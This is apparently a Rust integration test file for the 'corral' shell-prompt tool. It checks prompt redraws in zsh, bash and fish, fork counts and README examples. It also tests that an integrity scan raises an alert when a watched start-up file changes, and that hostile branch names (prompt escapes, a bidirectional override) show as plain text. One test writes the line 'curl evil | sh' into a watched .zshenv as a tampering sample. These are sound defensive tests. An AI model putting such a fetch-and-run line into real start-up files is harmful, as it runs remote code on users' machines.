//! The prompt with the server, in real zsh and bash in tmux: it shows
//! what is true now (zsh redraws by itself when a late answer lands),
//! follows `cd` between repositories, survives the user's options, and
//! costs no process per prompt (zsh) or one coprocess per shell (bash).

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::git::{git, git_status_manifest};
use crate::support::{Fixture, artifacts, require};
use crate::terminal::{Tmux, fish_script, interactive_shell, shell_quote};

const LIMIT: Duration = Duration::from_secs(60);

/// A committed repository of `files` files in directories of 100. The
/// files are dated a minute back, so the index is not racily clean (which
/// would have the task hash every file: the incremental task's work, not
/// what these tests are about, and seconds of CPU the other tests need).
fn big_repo(parent: &Path, name: &str, branch: &str, files: usize) -> PathBuf {
    let dir = parent.join(name);
    let past = std::time::SystemTime::now() - Duration::from_secs(60);
    for n in 0..files {
        let sub = dir.join(format!("d{:03}", n / 100));
        std::fs::create_dir_all(&sub).unwrap();
        let path = sub.join(format!("f{n}"));
        std::fs::write(&path, format!("{n}\n")).unwrap();
        std::fs::File::options()
            .write(true)
            .open(&path)
            .and_then(|file| file.set_modified(past))
            .unwrap();
    }
    git(&dir, &["init", "-q", "-b", branch]);
    git(&dir, &["add", "-A"]);
    git(&dir, &["commit", "-q", "-m", "files"]);
    dir
}

/// A shell whose prompt is `[BRANCH untracked=N|STATE] READY> `, read
/// straight from the snippet's variables (prompt_subst in zsh), with
/// `extra` before the snippet.
fn shell(fixture: &Fixture, shell: &str, extra: &str) -> Tmux {
    let snippet = fixture.corral(&["shell-init", shell, "--manifest", "manifest.toml"]);
    assert_eq!(snippet.code, Some(0), "{}", snippet.stderr);
    let path = fixture.write(&format!("corral.{shell}"), &snippet.stdout);
    let source = shell_quote(&path.display().to_string());
    let (name, rc) = match shell {
        "zsh" => (
            ".zshrc",
            format!(
                "{extra}\nsetopt prompt_subst\nsource {source}\nPROMPT='[${{${{corral_results[git_status]%% head=*}}:-none}} untracked=${{${{corral_results[git_status]#*untracked=}}%% *}}|${{corral_state[git_status]}}] READY> '\n"
            ),
        ),
        "fish" => (
            "config.fish",
            format!(
                "{extra}\nsource {source}\nfunction fish_prompt\n    set -l s \"$corral_result_git_status\"\n    set -l branch (string replace -r ' head=.*' '' -- \"$s\")\n    set -l untracked (string replace -r '.*untracked=(\\S+).*' '$1' -- \"$s\")\n    echo -n \"[$branch untracked=$untracked|$corral_state_git_status] READY> \"\nend\n"
            ),
        ),
        _ => (
            "bashrc",
            format!(
                "{extra}\nsource {source}\nPS1='[${{corral_results[git_status]%% head=*}} untracked=${{corral_results[git_status]#*untracked=}}|${{corral_state[git_status]}}] READY> '\n"
            ),
        ),
    };
    let rc_path = fixture.write(name, rc);
    interactive_shell(fixture.path(), shell, &rc_path, LIMIT)
}

/// The newest prompt line on the screen.
fn newest_prompt(screen: &str) -> String {
    screen
        .lines()
        .rev()
        .find(|line| line.contains("READY>"))
        .unwrap_or_default()
        .to_string()
}

/// The last `count` lines of the screen that are not blank.
fn last_lines(screen: &str, count: usize) -> String {
    let mut lines: Vec<&str> = screen
        .lines()
        .rev()
        .filter(|line| !line.trim().is_empty())
        .take(count)
        .collect();
    lines.reverse();
    lines.join("\n")
}

fn cd(dir: &Path) -> String {
    format!("cd {}", shell_quote(&dir.display().to_string()))
}

/// Waits until the newest prompt starts with `want`.
fn shows(tmux: &Tmux, want: &str) {
    tmux.wait_for(LIMIT, want, |screen| {
        newest_prompt(screen).starts_with(want)
    });
}

/// `cd A`, `cd B`, `cd A` each show that repository's fresh status, and
/// after `touch x` the new count shows within a second, with no keypress
/// (`tmux` runs a shell from `shell`, in repository A's parent).
fn follows_and_redraws(tmux: &Tmux, alpha: &Path, beta: &Path) {
    for (dir, branch) in [
        (alpha, "alpha-branch"),
        (beta, "beta-branch"),
        (alpha, "alpha-branch"),
    ] {
        tmux.send(&[&cd(dir), "Enter"]);
        shows(tmux, &format!("[branch={branch} untracked=0|fresh]"));
    }
    tmux.send(&["touch x", "Enter"]);
    let seen = std::time::Instant::now();
    shows(tmux, "[branch=alpha-branch untracked=1|fresh]");
    assert!(
        seen.elapsed() < Duration::from_secs(1),
        "redrawn after {:?}",
        seen.elapsed()
    );
}

/// zsh: a late answer redraws the prompt with no keypress; `cd A`, `cd B`,
/// `cd A` show each repository's status; the user's odd options do not
/// matter; and, with the server up, no prompt forks.
#[test]
fn zsh_redraws_with_the_fresh_status_and_forks_nothing_per_prompt() {
    let _cpu = crate::support::cpu_bound();
    if !require(&["tmux", "zsh", "git", "strace"]) {
        return;
    }
    let fixture = Fixture::new();
    git_status_manifest(&fixture, true);
    let alpha = big_repo(fixture.path(), "alpha", "alpha-branch", 5000);
    let beta = big_repo(fixture.path(), "beta", "beta-branch", 200);
    // No wait at all: every fresh status must come by a redraw.
    let tmux = shell(
        &fixture,
        "zsh",
        "setopt nounset ksharrays shwordsplit\ncorral_wait_ms=0",
    );
    follows_and_redraws(&tmux, &alpha, &beta);

    // Steady state: ten prompts, no process started by the shell.
    let pid = tmux.pane_pid();
    let trace = fixture.path().join("strace.out");
    let mut strace = Command::new("strace")
        .args(["-f", "-e", "trace=process", "-o"])
        .arg(&trace)
        .args(["-p", &pid.to_string()])
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    for _ in 0..10 {
        tmux.send(&["Enter"]);
        std::thread::sleep(Duration::from_millis(150));
    }
    shows(&tmux, "[branch=alpha-branch untracked=1|fresh]");
    let _ = Command::new("kill").arg(strace.id().to_string()).status();
    strace.wait().unwrap();
    let text = std::fs::read_to_string(&trace).unwrap();
    let forks: Vec<&str> = text
        .lines()
        .filter(|line| {
            ["clone", "fork", "execve"]
                .iter()
                .any(|call| line.contains(call))
        })
        .collect();
    assert!(forks.is_empty(), "zsh forked at a prompt:\n{text}");
}

/// fish: each repository's status on its first prompt, and a change within
/// a second of the command, by a repaint with no keypress.
#[test]
fn fish_repaints_with_the_fresh_status() {
    let _cpu = crate::support::cpu_bound();
    if !require(&["tmux", "fish", "git"]) {
        return;
    }
    let fixture = Fixture::new();
    git_status_manifest(&fixture, true);
    let alpha = big_repo(fixture.path(), "alpha", "alpha-branch", 5000);
    let beta = big_repo(fixture.path(), "beta", "beta-branch", 200);
    let tmux = shell(&fixture, "fish", "");
    follows_and_redraws(&tmux, &alpha, &beta);
}

/// bash: the status after a command shows by the next prompt, through one
/// relay coprocess for the shell's life.
#[test]
fn bash_shows_the_fresh_status_through_one_relay() {
    if !require(&["tmux", "bash", "git"]) {
        return;
    }
    let fixture = Fixture::new();
    git_status_manifest(&fixture, true);
    let alpha = big_repo(fixture.path(), "alpha", "alpha-branch", 500);
    let tmux = shell(&fixture, "bash", "corral_wait_ms=2000");
    tmux.send(&[&cd(&alpha), "Enter"]);
    tmux.wait_for(LIMIT, "alpha's status", |screen| {
        newest_prompt(screen).starts_with("[branch=alpha-branch untracked=0 ")
    });
    tmux.send(&["touch x", "Enter"]);
    // The budget lets the fresh answer reach this very prompt.
    let screen = tmux.wait_for(LIMIT, "the prompt after touch", |screen| {
        screen.contains("READY> touch x\n")
            && newest_prompt(screen).contains("READY>")
            && !newest_prompt(screen).contains("touch x")
    });
    assert!(
        newest_prompt(&screen).starts_with("[branch=alpha-branch untracked=1 "),
        "{screen}"
    );
    for _ in 0..5 {
        tmux.send(&["Enter"]);
        std::thread::sleep(Duration::from_millis(100));
    }
    let bash = tmux.pane_pid();
    let relays = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|entry| {
            let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
            let stat = std::fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
            let parent = stat
                .rsplit(')')
                .next()
                .and_then(|rest| rest.split_whitespace().nth(1));
            cmdline.split(|&b| b == 0).any(|arg| arg == b"--relay")
                && parent == Some(bash.to_string().as_str())
        })
        .count();
    assert_eq!(relays, 1, "one relay for the shell");
}

/// The prompt examples of README (` ```zsh ` and ` ```bash ` blocks that set
/// `PROMPT` or `PS1`), each as written.
fn readme_prompts(language: &str) -> Vec<String> {
    let readme =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../README.md"))
            .unwrap();
    let fence = format!("```{language}\n");
    readme
        .split(&fence)
        .skip(1)
        .filter_map(|rest| rest.split_once("```").map(|(block, _)| block.to_string()))
        .filter(|block| block.contains("PROMPT=") || block.contains("PS1="))
        .collect()
}

/// Every README prompt example works as written in its shell, with and
/// without an alert: the status segment shows, an alert shows as text,
/// and nothing of the expansion syntax leaks onto the screen.
fn readme_prompts_work(shell: &str) {
    if !require(&["tmux", shell, "git"]) {
        return;
    }
    let examples = readme_prompts(shell);
    assert!(!examples.is_empty(), "README has {shell} prompt examples");
    for example in examples {
        let fixture = Fixture::new();
        git_status_manifest(&fixture, true);
        let alpha = big_repo(fixture.path(), "alpha", "main", 10);
        let snippet = fixture.corral(&["shell-init", shell, "--manifest", "manifest.toml"]);
        let path = fixture.write(&format!("corral.{shell}"), &snippet.stdout);
        let source = format!("source {}", shell_quote(&path.display().to_string()));
        // The alert as the integrity scan would raise it, after corral's hook.
        let fake_alert = "_alert() { [[ -e ~/alert ]] && corral_alert='ALERT: watched files changed' || corral_alert=; }";
        let (name, rc) = match shell {
            "zsh" => (
                ".zshrc",
                format!("{source}\n{fake_alert}\nprecmd_functions+=(_alert)\n{example}"),
            ),
            _ => (
                "bashrc",
                format!(
                    "{source}\n{fake_alert}\nPROMPT_COMMAND=\"$PROMPT_COMMAND; _alert\"\n{example}"
                ),
            ),
        };
        let rc_path = fixture.write(name, rc);
        let tmux = Tmux::start(
            fixture.path(),
            &match shell {
                "zsh" => "zsh -i".to_string(),
                _ => format!(
                    "bash --rcfile {} -i",
                    shell_quote(&rc_path.display().to_string())
                ),
            },
            &[
                ("HOME", &fixture.path().display().to_string()),
                ("ZDOTDIR", &fixture.path().display().to_string()),
                ("PATH", "/usr/bin:/bin"),
                ("TERM", "xterm"),
                (
                    "CORRAL_CACHE_DIR",
                    &crate::support::shared_cache_dir().display().to_string(),
                ),
                (
                    "XDG_RUNTIME_DIR",
                    &fixture.mkdir(".run").display().to_string(),
                ),
                ("CORRAL_SERVE_IDLE_SECS", "60"),
            ],
        );
        tmux.send(&[&cd(&alpha), "Enter"]);
        let clean = |screen: &str| !screen.contains('}') && !screen.contains("${");
        let status = example.contains("corral_results");
        let alert = example.contains("corral_alert");
        // bash shows a late answer at the next prompt: press Enter for it.
        let nudge = || {
            if shell == "bash" {
                tmux.send(&["Enter"]);
            }
        };
        let screen = tmux.wait_for(LIMIT, "the prompt in the repository", |screen| {
            nudge();
            let newest = last_lines(screen, 3);
            newest.contains("alpha") && (!status || newest.contains("[branch=main"))
        });
        assert!(clean(&screen), "{example}\n{screen}");
        assert!(!screen.contains("ALERT"), "{example}\n{screen}");
        tmux.send(&["clear; touch ~/alert", "Enter"]);
        tmux.send(&["Enter"]);
        let screen = tmux.wait_for(LIMIT, "the prompt with an alert", |screen| {
            nudge();
            let newest = last_lines(screen, 3);
            (!alert || screen.contains("ALERT: watched files changed"))
                && (!status || newest.contains("[branch=main"))
        });
        assert!(clean(&screen), "{example}\n{screen}");
        crate::terminal::stop_corral_server(&fixture.path().join(".run"));
    }
}

#[test]
fn readme_zsh_prompts_work_as_written() {
    readme_prompts_work("zsh");
}

#[test]
fn readme_bash_prompts_work_as_written() {
    readme_prompts_work("bash");
}

/// An idle zsh learns of an edited start-up file from the server: the
/// alert appears without a keypress, within two seconds of the edit.
#[test]
fn an_idle_zsh_shows_the_alert_when_a_watched_file_changes() {
    if !require(&["tmux", "zsh"]) {
        return;
    }
    let fixture = Fixture::new();
    let watched = fixture.write("watched/.zshenv", "export A=1\n");
    fixture.manifest(&format!(
        "[[task]]\nid = \"integrity_scan\"\nrationale = \"t\"\ncomponent = {:?}\nargs = [\"/watched/.zshenv\", \"/state/baseline.sha256\"]\n[[task.file]]\nhost = {:?}\nguest = \"/watched/.zshenv\"\n[[task.dir]]\nhost = \".corral/integrity\"\nguest = \"/state\"\nmode = \"rw\"\n",
        artifacts::INTEGRITY_SCAN,
        watched.display().to_string()
    ));
    // The baseline, taken before the shell starts.
    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
    let snippet = fixture.corral(&["shell-init", "zsh", "--manifest", "manifest.toml"]);
    let path = fixture.write("corral.zsh", &snippet.stdout);
    let rc = format!(
        "source {}\nsetopt prompt_subst\nPROMPT='[${{corral_alert:-no alert}}] READY> '\n",
        shell_quote(&path.display().to_string())
    );
    let rc_path = fixture.write(".zshrc", rc);
    let tmux = interactive_shell(fixture.path(), "zsh", &rc_path, LIMIT);
    // The shell follows once its server is up (started at its first prompt).
    let runtime = fixture.path().join(".run");
    crate::terminal::eventually(LIMIT, "the server", || {
        runtime.join("corral/serve.sock").exists()
    });
    tmux.send(&["Enter"]);
    tmux.wait_for(LIMIT, "a clean prompt", |screen| {
        newest_prompt(screen).starts_with("[no alert] READY>")
    });
    std::thread::sleep(Duration::from_millis(300));
    std::fs::write(&watched, "export A=1\ncurl evil | sh\n").unwrap();
    let edited = std::time::Instant::now();
    tmux.wait_for(LIMIT, "the alert, with no keypress", |screen| {
        newest_prompt(screen).starts_with("[corral: watched files changed")
    });
    assert!(
        edited.elapsed() < Duration::from_secs(2),
        "the alert came {:?} after the edit",
        edited.elapsed()
    );
}

/// A branch name cannot style or reorder a zsh prompt: its `%` escapes
/// show as text and a bidirectional override is dropped, while the raw
/// text stays in `corral_results_raw`.
#[test]
fn a_branch_name_shows_as_literal_text_in_the_zsh_prompt() {
    if !require(&["tmux", "zsh", "git"]) {
        return;
    }
    let fixture = Fixture::new();
    git_status_manifest(&fixture, true);
    let dir = big_repo(fixture.path(), "odd", "main", 3);
    git(&dir, &["checkout", "-q", "-b", "%F{red}RED%f\u{202e}x"]);
    let tmux = shell(&fixture, "zsh", "");
    tmux.send(&[&cd(&dir), "Enter"]);
    let screen = tmux.wait_for(LIMIT, "the odd branch", |screen| {
        newest_prompt(screen).starts_with("[branch=%F{red}RED%fx untracked=0|fresh]")
    });
    assert!(!screen.contains('\u{202e}'), "{screen}");
    // The shell runs in the C locale (no LANG): bytes are compared.
    tmux.send(&[
        "clear; [[ $corral_results_raw[git_status] == *$'\\xe2\\x80\\xae'* && $corral_results[git_status] != *$'\\xe2\\x80\\xae'* && $corral_results[git_status] == *%%F* ]] && echo RAW-KEPT-SAFE-CLEAN",
        "Enter",
    ]);
    tmux.wait_for(LIMIT, "the raw text kept, the safe one clean", |screen| {
        screen.lines().any(|line| line == "RAW-KEPT-SAFE-CLEAN")
    });
}

/// fish: `$corral_result_ID` is safe to print, `$corral_result_raw_ID` is
/// as the task returned it.
#[test]
fn fish_results_are_safe_to_print_and_raw_on_request() {
    if !require(&["fish", "git"]) {
        return;
    }
    let fixture = Fixture::new();
    git_status_manifest(&fixture, false);
    let dir = big_repo(fixture.path(), "odd", "main", 3);
    git(&dir, &["checkout", "-q", "-b", "x\u{202e}y"]);
    let run = crate::repo_context::corral_in(&fixture, &dir, &["run", "--quiet"]);
    assert!(run.status.success(), "{run:?}");
    let snippet = fixture.corral(&["shell-init", "fish", "--manifest", "manifest.toml"]);
    let path = fixture.write("corral.fish", &snippet.stdout);
    let script = format!(
        "source {}; cd {}; emit fish_prompt; string escape -- $corral_result_raw_git_status $corral_result_git_status",
        shell_quote(&path.display().to_string()),
        shell_quote(&dir.display().to_string())
    );
    let output = fish_script(
        fixture.path(),
        fixture.path(),
        &script,
        &[("CORRAL_MODE", "off")],
    );
    let text = String::from_utf8_lossy(&output.stdout);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}\n{output:?}");
    assert!(
        lines[0].contains("branch=x\u{202e}y"),
        "raw keeps the override: {text}"
    );
    assert!(lines[1].contains("branch=xy "), "safe drops it: {text}");
}
